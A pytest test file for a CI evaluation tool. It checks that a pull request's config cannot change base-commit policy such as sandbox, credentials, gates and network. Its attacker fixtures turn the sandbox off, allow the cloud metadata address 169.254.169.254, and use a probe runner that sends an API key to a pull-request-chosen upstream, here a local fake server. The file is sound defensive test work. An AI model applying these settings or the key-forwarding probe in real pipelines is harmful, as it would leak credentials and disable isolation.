"""On a pull request the policy comes from the base commit (docs/ci.md#what-a-pull-request-
may-change): a real two-commit repository, a ``pull_request`` event file naming the base sha and
a fake job token; the head's config changes policy keys, which are ignored and named; its data
(where the cases are) is used. ``--trust-pr-config`` applies the head; without a pull request
the checked-out config is trusted."""

from __future__ import annotations

import json
import re
import sys
from html import unescape
from pathlib import Path
from typing import Any

import cmarkgfm
import pytest

from skill_evals.ci.policy import POLICY_KEYS, is_policy, trusted_raw
from skill_evals.ci.pr_event import from_fork
from tests._fake_upstream import FakeUpstream
from tests.ci.conftest import commit_all, git, make_repo, run_cli

BASE = (
    "runner: skill-evals runner simulated\ntrials: 1\njobs: 4\nstop-when-settled: false\n"
    "sandbox: required\ngates: {min-trigger-f1: 0.99}\n"
)
# Every policy key the schema knows, changed at once (each value valid, none used).
HEAD_ALL = """\
runner: "python3 -c 'print(1)'"
judge: "python3 -c 'print(2)'"
judges: {evil: "python3 -c 'print(3)'"}
judge-timeout-ms: 1000
judge-fallback: tie
judge-fallback-margin: 0.5
proposer: "python3 -c 'print(4)'"
credentials: [{env: ATTACK_KEY, header: x-api-key, upstream: "http://127.0.0.1:9/v1"}]
sandbox: "off"
sandbox-paths: ["/etc"]
cache: in-tree-cache
cache-max-age: 1m
history: evil-history.jsonl
require-env: [SKILL_EVALS_TEST_NEVER_SET]
gates: {min-trigger-f1: 0, min-uplift: -1, max-f1-drop: 1, max-pass-drop: 1, min-f1-gain: -1,
        min-pass-gain: -1}
compare: base
improve: suggest
improve-options: {rounds: 1}
validate: warn
draft: suggest
drafter: "python3 -c 'print(5)'"
budget: {invocations: 1}
budget-total: {invocations: 1}
trials: 2
jobs: 1
timeout-ms: 1000
max-bytes: 100
retries: 0
seed: 7
bootstrap-samples: 2000
arms: with
stop-when-settled: true
keep-going: true
allow-missing-cases: true
require-verified-isolation: true
include-outputs: true
strict: true
evidence: {toolPatterns: ["(?P<name>.*)"]}
listing: {listing-budget: 10}
network: host
network-allow: ["169.254.169.254:80"]
fail-on-finding: true
max-invocation-tokens: 5
max-workspace-bytes: 1000
overrides: {alpha: {trials: 3, cases: evals/cases.jsonl}}
"""
NAMED = [
    "runner", "judge", "judges", "judge-timeout-ms", "judge-fallback", "judge-fallback-margin",
    "proposer", "credentials", "sandbox",
    "sandbox-paths", "cache", "cache-max-age", "history", "require-env",
    "gates.min-trigger-f1", "gates.min-uplift", "gates.max-f1-drop", "gates.max-pass-drop",
    "gates.min-f1-gain", "gates.min-pass-gain", "compare", "improve", "improve-options",
    "draft", "drafter", "validate",
    "budget", "budget-total", "trials", "jobs", "timeout-ms", "max-bytes", "retries", "seed",
    "bootstrap-samples", "arms", "keep-going", "allow-missing-cases",
    "require-verified-isolation", "include-outputs", "strict", "evidence", "listing",
    "overrides.alpha.trials", "stop-when-settled", "network", "network-allow", "fail-on-finding",
    "max-invocation-tokens", "max-workspace-bytes",
]  # fmt: skip


def _said(key: str) -> str:
    return (
        f"the pull request changes `{key}` in .skill-evals.yml; the base commit's value holds "
        "until it merges"
    )


def pr_event(
    tmp: Path, base: str, head_repo: str = "o/r", base_repo: str = "o/r"
) -> dict[str, str]:
    """A pull_request event of PR 7 naming ``base`` (head and base repositories as given)."""
    event = tmp / f"event-{head_repo.replace('/', '-')}-{base[:8]}.json"
    pull = {
        "number": 7,
        "base": {"sha": base, "repo": {"full_name": base_repo}},
        "head": {"repo": {"full_name": head_repo}},
    }
    event.write_text(json.dumps({"pull_request": pull}), "utf-8")
    return {
        "GITHUB_EVENT_NAME": "pull_request",
        "GITHUB_EVENT_PATH": str(event),
        "GITHUB_REPOSITORY": "o/r",
        "GITHUB_TOKEN": "ghs_fake_token_for_tests",
        "GITHUB_ACTIONS": "true",
    }


def two_commits(root: Path, base_config: str | None, head_config: str) -> tuple[Path, str]:
    """alpha and beta at the base commit (``base_config`` or none); the head edits alpha and
    writes ``head_config``. Returns the repository and the base sha."""
    repo = make_repo(root, skills=("alpha", "beta"), config=base_config)
    base = git(repo, "rev-parse", "HEAD")
    (repo / ".skill-evals.yml").write_text(head_config, "utf-8")
    with (repo / "skills" / "alpha" / "SKILL.md").open("a", encoding="utf-8") as handle:
        handle.write("\nMore about alpha.\n")
    commit_all(repo, "head")
    return repo, base


def ci_run(repo: Path, env: dict[str, str], *args: str) -> dict[str, Any]:
    out = repo.parent / ("out-" + "-".join(a.strip("-") for a in args if a.startswith("--")))
    done = run_cli(["ci", "--out", str(out), *args], repo, env)
    report = json.loads((out / "report.json").read_text("utf-8"))
    return {"done": done, "report": report, "out": out}


@pytest.fixture(scope="module")
def all_changed(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """One ci run on a pull request whose head config changes every policy key."""
    tmp = tmp_path_factory.mktemp("policy-all")
    repo, base = two_commits(tmp / "repo", BASE, HEAD_ALL)
    return {**ci_run(repo, pr_event(tmp, base)), "repo": repo}


@pytest.mark.parametrize("key", NAMED)
def test_each_changed_policy_key_is_named_once_everywhere(all_changed, key):
    said = _said(key)
    assert all_changed["report"]["messages"].count(said) == 1
    assert all_changed["done"].stderr.count(said) == 1
    shown = " ".join(said.replace("`", "").split())  # its `key` shows as code
    for name in ("summary.md", "comment.md"):
        # As GitHub renders it: the text of the HTML, the code spans' text included, with no
        # backtick left over.
        html = cmarkgfm.github_flavored_markdown_to_html((all_changed["out"] / name).read_text())
        text = " ".join(unescape(re.sub(r"<[^>]+>", "", html)).split())
        assert text.count(shown) == 1, name
        assert f"`{key}`" not in text, name


def test_data_keys_are_not_named_and_no_value_is_shown(all_changed):
    messages = " ".join(all_changed["report"]["messages"])
    assert "overrides.alpha.cases" not in messages
    for value in ("python3", "127.0.0.1", "in-tree-cache", "evil", "SKILL_EVALS_TEST_NEVER_SET"):
        assert value not in messages
        assert value not in all_changed["done"].stderr


def test_the_base_policy_is_the_one_that_ran(all_changed):
    report, done = all_changed["report"], all_changed["done"]
    assert report["policyFrom"] == "base"
    assert done.returncode == 1, done.stderr  # min-trigger-f1 0.99 holds: not the head's 0
    (alpha,) = [s for s in report["skills"] if s["status"] == "evaluated"]
    assert alpha["name"] == "alpha"  # beta unchanged: its fingerprint uses the base's settings
    run = alpha["report"]
    assert run["gates"]["minTriggerF1"]["threshold"] == 0.99
    assert run["sandbox"]["mode"] == "bwrap" and run["sandbox"]["requested"] == "required"
    assert run["sandbox"]["requestedBy"] == ".skill-evals.yml at the base commit"
    assert run["sandbox"]["proxied"] == []
    assert run["settings"]["trials"] == 1 and run["settings"]["jobs"] == 4
    assert report["simulated"] is True  # the base's runner, not the head's command
    assert not (all_changed["repo"] / "in-tree-cache").exists()
    assert not (all_changed["repo"] / "evil-history.jsonl").exists()


def test_every_listed_policy_key_is_policy_and_unknown_ones_follow_the_rule():
    for key in ("network", "network-allow", "fail-on-finding", "drafter", "draft", "judges"):
        assert key in POLICY_KEYS
    assert is_policy("max-anything") and is_policy("min-anything")
    assert not is_policy("skills") and not is_policy("cases") and not is_policy("lock")
    head = {"network": "open", "cases": "x.jsonl", "skills": ["a/*"], "routing": {"cases": "r"}}
    base = {
        "network": "none",
        "skills": ["b/*"],
        "routing": {"cases": "q", "gates": {"min-accuracy": 1}},
    }
    merged, changed = trusted_raw(head, base)
    assert merged == {
        "network": "none",
        "cases": "x.jsonl",
        "skills": ["b/*", "a/*"],
        "routing": {"cases": "r", "gates": {"min-accuracy": 1}},
    }
    assert changed == ["network", "routing.gates.min-accuracy"]


# A custom runner outside the repository: when the proxy serves ATTACK_KEY it sends one request
# through it (so an upstream the pull request chose would be contacted), then answers.
PROBE_RUNNER = """\
import json, os, sys, urllib.request
prompt = sys.stdin.read()
url = os.environ.get("SKILL_EVALS_PROXY_ATTACK_KEY")
if url:
    request = urllib.request.Request(url + "/messages", data=b"{}", method="POST",
                                     headers={"x-api-key": os.environ.get("ATTACK_KEY", "")})
    try:
        urllib.request.urlopen(request, timeout=10).read()
    except Exception:
        pass
variant = os.environ["EVALGATE_SKILL_VARIANT"]
skill = os.path.basename(os.environ["EVALGATE_SKILL_DIR"])
print(json.dumps({"variant": variant, "invokedSkills": [skill] if variant == "with" else [],
                  "output": "ok", "exitCode": 0}))
"""


@pytest.fixture(scope="module")
def attacker(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A base whose runner is the probe; a head that points ATTACK_KEY at an upstream of its
    own, turns the sandbox off and the gate down. Run as is and with --trust-pr-config."""
    tmp = tmp_path_factory.mktemp("policy-attacker")
    script = tmp / "probe_runner.py"
    script.write_text(PROBE_RUNNER, "utf-8")
    runner = f"runner: {json.dumps(f'{sys.executable} {script}')}\n"
    common = "trials: 1\njobs: 2\nstop-when-settled: false\n"
    upstream = FakeUpstream(max_requests=50, lifetime_s=120.0)
    upstream.start()
    try:
        head = (
            runner + common + "sandbox: off\ngates: {min-trigger-f1: 0}\n"
            "credentials: [{env: ATTACK_KEY, header: x-api-key, "
            f"upstream: '{upstream.url}/v1'}}]\n"
        )
        repo, base = two_commits(
            tmp / "repo",
            runner + common + "sandbox: required\ngates: {min-trigger-f1: 0.99}\n",
            head,
        )
        env = {**pr_event(tmp, base), "ATTACK_KEY": "sk-fake-attack-key"}
        ignored = ci_run(repo, env, "--only", "alpha")
        contacted_ignored = len(upstream.received)
        trusted = ci_run(repo, env, "--only", "alpha", "--trust-pr-config")
        contacted_trusted = len(upstream.received) - contacted_ignored
    finally:
        upstream.stop()
    return {
        "ignored": ignored,
        "trusted": trusted,
        "contacted": (contacted_ignored, contacted_trusted),
    }


def test_a_pr_config_cannot_send_the_key_upstream_nor_lower_the_gate(attacker):
    run = attacker["ignored"]
    assert attacker["contacted"][0] == 0
    report = run["report"]
    assert report["policyFrom"] == "base"
    alpha = report["skills"][0]["report"]
    assert alpha["sandbox"]["mode"] == "bwrap" and alpha["sandbox"]["proxied"] == []
    assert alpha["gates"]["minTriggerF1"]["threshold"] == 0.99
    assert run["done"].returncode == 1, run["done"].stderr
    for key in ("sandbox", "credentials", "gates.min-trigger-f1"):
        assert _said(key) in report["messages"]


def test_trust_pr_config_applies_the_head(attacker):
    run = attacker["trusted"]
    report = run["report"]
    assert report["policyFrom"] == "head-trusted"
    assert not any("pull request changes" in m for m in report["messages"])
    alpha = report["skills"][0]["report"]
    assert alpha["sandbox"]["mode"] == "off"
    origin = "the pull request's .skill-evals.yml (--trust-pr-config)"
    assert alpha["sandbox"]["requestedBy"] == origin
    assert alpha["sandbox"]["reason"] == f"sandbox: off in {origin}"
    assert alpha["gates"]["minTriggerF1"]["threshold"] == 0
    assert run["done"].returncode == 0, run["done"].stderr
    assert attacker["contacted"][1] > 0  # the probe reaches the head's upstream then


SIMULATED_CLI = ("--runner", "skill-evals runner simulated", "--trials", "1", "--only", "alpha")


def test_without_a_config_at_base_the_policy_is_the_defaults_and_the_head_is_data(tmp_path):
    # The head moves alpha's cases and says where (data, used) and sets a gate and the sandbox
    # (policy, ignored: the defaults and the options given hold).
    repo, base = two_commits(
        tmp_path / "repo",
        None,
        "sandbox: off\ngates: {min-trigger-f1: 0.99}\noverrides: {alpha: {cases: tests/c.jsonl}}\n",
    )
    alpha = repo / "skills" / "alpha"
    (alpha / "tests").mkdir()
    (alpha / "evals" / "cases.jsonl").rename(alpha / "tests" / "c.jsonl")
    commit_all(repo, "move the cases")
    run = ci_run(repo, pr_event(tmp_path, base), *SIMULATED_CLI)
    report = run["report"]
    assert run["done"].returncode == 0, run["done"].stderr
    assert report["policyFrom"] == "base"
    (entry,) = report["skills"]
    assert entry["status"] == "evaluated"  # the head's case location is used
    assert entry["report"]["sandbox"]["requested"] == "auto"
    assert entry["report"]["gates"]["minTriggerF1"] is None
    assert _said("sandbox") in report["messages"]
    assert _said("gates.min-trigger-f1") in report["messages"]


@pytest.fixture(scope="module")
def push_repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("push")
    off = BASE.replace("sandbox: required", "sandbox: off")  # `off` unquoted: the string
    return two_commits(tmp / "repo", BASE, off)[0]


PUSH = {"GITHUB_EVENT_NAME": "push", "GITHUB_ACTIONS": "true"}


def test_without_a_pull_request_the_checked_out_config_is_trusted(push_repo):
    run = ci_run(push_repo, PUSH, "--only", "alpha")
    report = run["report"]
    assert report["policyFrom"] == "checkout"
    sandbox = report["skills"][0]["report"]["sandbox"]
    assert sandbox["requested"] == "off" and sandbox["requestedBy"] == ".skill-evals.yml"
    assert sandbox["reason"] == "sandbox: off in .skill-evals.yml"  # no flag was given
    assert "--sandbox" not in run["done"].stderr
    assert not any("pull request changes" in m for m in report["messages"])


@pytest.mark.parametrize(
    ("args", "env", "origin", "reason"),
    [
        (("--sandbox", "off"), {}, "--sandbox", "--sandbox off"),
        ((), {"SKILL_EVALS_SANDBOX": "off"}, "SKILL_EVALS_SANDBOX", "SKILL_EVALS_SANDBOX=off"),
        (
            ("--sandbox", "off"),
            {"SKILL_EVALS_SANDBOX_FROM_ACTION": "input"},
            "the action's sandbox input",
            "the action's sandbox input: off",
        ),
    ],
)
def test_the_report_names_where_the_sandbox_setting_came_from(push_repo, args, env, origin, reason):
    run = ci_run(push_repo, {**PUSH, **env}, "--only", "alpha", *args)
    sandbox = run["report"]["skills"][0]["report"]["sandbox"]
    assert (sandbox["requestedBy"], sandbox["reason"]) == (origin, reason)
    assert run["report"]["sandbox"]["requestedBy"] == origin


def test_changed_plan_and_lock_read_the_policy_from_the_base(tmp_path):
    # The head changes only `trials` (it enters every fingerprint) and edits alpha: with the
    # base's policy only alpha changed; trusting the head, beta changed too.
    repo, base = two_commits(tmp_path / "repo", BASE, BASE.replace("trials: 1", "trials: 2"))
    env = pr_event(tmp_path, base)
    done = run_cli(["changed"], repo, env)
    assert done.stdout.split() == ["skills/alpha"], done.stderr
    assert done.stderr.count(_said("trials")) == 1
    trusted = run_cli(["changed", "--trust-pr-config"], repo, env)
    assert trusted.stdout.split() == ["skills/alpha", "skills/beta"]
    assert "pull request changes" not in trusted.stderr
    plan = run_cli(["ci", "plan"], repo, env)
    assert [i["skill"] for i in json.loads(plan.stdout)["include"]] == ["alpha"]
    assert _said("trials") in plan.stderr
    lock = run_cli(["lock", "--update"], repo, env)
    assert lock.returncode == 0 and _said("trials") in lock.stderr


@pytest.mark.parametrize(
    ("config", "args", "named"),
    [
        ("cache: .skill-evals-cache\n", (), "cache .skill-evals-cache"),
        ("", ("--cache", "sub/cache"), "--cache sub/cache"),
    ],
)
def test_a_cache_inside_the_work_tree_is_refused(tmp_path, config, args, named):
    repo = make_repo(tmp_path / "repo", skills=("alpha",), config=BASE + config)
    run = ci_run(repo, {}, *args)
    assert run["done"].returncode == 5
    assert named in run["done"].stderr and "outside the checkout" in run["done"].stderr
    assert not (repo / ".skill-evals-cache").exists() and not (repo / "sub").exists()
    outside = ci_run(repo, {}, "--only", "alpha", "--cache", str(tmp_path / "cache"))
    assert outside["done"].returncode == 1, outside["done"].stderr  # the 0.99 gate, not exit 5


REQUIRE = "runner: python3 -c pass\nrequire-env: [SKILL_EVALS_TEST_NEEDED_KEY]\n"


@pytest.fixture(scope="module")
def require_repo(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str, Path]:
    tmp = tmp_path_factory.mktemp("require-env")
    repo, base = two_commits(tmp / "repo", REQUIRE, REQUIRE)
    return repo, base, tmp


@pytest.mark.parametrize(
    ("event", "args", "code"),
    [
        ("fork", (), 0),
        ("same-repository", (), 7),
        ("push", (), 7),
        ("none", (), 7),
        ("same-repository", ("--skip-on-missing-secrets",), 0),
        ("fork", ("--fail-on-missing-secrets",), 7),
    ],
)
def test_missing_secrets_skip_only_on_a_fork(require_repo, event, args, code):
    repo, base, tmp = require_repo
    envs = {
        "fork": pr_event(tmp, base, head_repo="someone/r"),
        "same-repository": pr_event(tmp, base),
        "push": {"GITHUB_EVENT_NAME": "push", "GITHUB_ACTIONS": "true"},
        "none": {},
    }
    run = ci_run(repo, envs[event], "--only", "alpha", *args)
    assert run["done"].returncode == code, run["done"].stderr
    assert "SKILL_EVALS_TEST_NEEDED_KEY" in run["done"].stderr
    assert run["report"]["skills"][0]["status"] == "skipped"


def test_a_fork_is_a_head_repository_other_than_the_base(tmp_path):
    def env(head: str | None) -> dict[str, str]:
        event = tmp_path / "e.json"
        head_part = {"repo": None if head is None else {"full_name": head}}
        pull = {"base": {"repo": {"full_name": "o/r"}}, "head": head_part}
        event.write_text(json.dumps({"pull_request": pull}), "utf-8")
        return {"GITHUB_EVENT_NAME": "pull_request_target", "GITHUB_EVENT_PATH": str(event)}

    assert from_fork(env("x/r")) and from_fork(env(None))
    assert not from_fork(env("O/R")) and not from_fork(env("o/r"))
    assert not from_fork(
        {
            "GITHUB_EVENT_NAME": "push",
            **{k: v for k, v in env("x/r").items() if k != "GITHUB_EVENT_NAME"},
        }
    )


def test_a_base_that_cannot_be_read_leaves_the_policy_at_the_defaults_and_says_so(tmp_path):
    # The pull request's own file turns the sandbox and the contained network off, sends a key
    # to its own upstream and lowers the gate; its base cannot be fetched. None of that holds:
    # the defaults and the options given decide, the head's file is data only.
    head = (
        'sandbox: "off"\nnetwork: host\ngates: {min-trigger-f1: 0}\n'
        'credentials: [{env: ATTACK_KEY, header: x-api-key, upstream: "http://127.0.0.1:9"}]\n'
    )
    repo, _ = two_commits(tmp_path / "repo", BASE, head)
    event = pr_event(tmp_path, "1" * 40)
    done = run_cli(["changed"], repo, event)
    assert done.returncode == 0, done.stderr
    assert "the pull request's base 111111111111 is not available" in done.stderr
    assert "the policy is the defaults and the options given" in done.stderr
    run = ci_run(repo, {**event, "ATTACK_KEY": "k"}, *SIMULATED_CLI, "--sandbox", "required")
    report = run["report"]
    assert report["policyFrom"] == "base"
    sandbox = report["skills"][0]["report"]["sandbox"]
    assert (sandbox["mode"], sandbox["network"], sandbox["proxied"]) == ("bwrap", "model", [])
    for key in ("sandbox", "network", "credentials", "gates.min-trigger-f1"):
        assert _said(key) in report["messages"]


def test_ci_merge_keeps_where_the_policy_came_from(all_changed, tmp_path):
    merged = tmp_path / "merged"
    done = run_cli(["ci", "merge", str(all_changed["out"]), "--out", str(merged)], tmp_path)
    assert done.returncode == 1, done.stderr
    report = json.loads((merged / "report.json").read_text("utf-8"))
    assert report["policyFrom"] == "base"
    assert _said("sandbox") in report["messages"]


def test_every_config_key_is_classified_and_the_head_config_changes_every_policy_key():
    """A key added to the schema must be placed on one side (policy.py), and a policy key must
    be changed by HEAD_ALL (and named in NAMED), so the runs above cover it."""
    import yaml

    from skill_evals.ci.policy import DATA_KEYS
    from skill_evals.schemas import load_schema

    schema = load_schema("config.schema.json")
    keys = set(schema["properties"]) | set(schema["$defs"]["override"]["properties"])
    for key in keys:
        assert is_policy(key) != (key in DATA_KEYS), f"{key}: add it to POLICY_KEYS or DATA_KEYS"
    head = yaml.safe_load(HEAD_ALL)
    for key in schema["properties"]:
        if is_policy(key):
            assert key in head, f"{key}: change it in HEAD_ALL and add it to NAMED"
            assert key in NAMED or f"{key}.{next(iter(head[key]))}" in NAMED, key


def test_the_config_reference_marks_each_key_as_the_code_does():
    page = Path(__file__).resolve().parents[2] / "docs" / "config.md"
    checked = 0
    for line in page.read_text("utf-8").splitlines():
        found = re.match(r"^\| `([a-z-]+)` \|.*\| (policy|data)[^|]*\|$", line)
        if found and found.group(1) not in ("overrides", "routing"):
            key, side = found.groups()
            assert (side == "policy") == is_policy(key), key
            checked += 1
    assert checked > 30


def test_a_pull_request_event_without_a_base_never_trusts_the_head(tmp_path):
    repo, _ = two_commits(tmp_path / "repo", BASE, 'sandbox: "off"\nnetwork: host\n')
    event = tmp_path / "event-no-base.json"
    event.write_text(json.dumps({"pull_request": {"number": 7}}), "utf-8")
    env = {"GITHUB_EVENT_NAME": "pull_request_target", "GITHUB_EVENT_PATH": str(event)}
    run = ci_run(repo, env, *SIMULATED_CLI, "--sandbox", "required")
    report = run["report"]
    assert report["policyFrom"] == "base"
    assert any("names no base commit" in m for m in report["messages"])
    sandbox = report["skills"][0]["report"]["sandbox"]
    assert (sandbox["mode"], sandbox["network"]) == ("bwrap", "model")
    assert _said("network") in report["messages"]
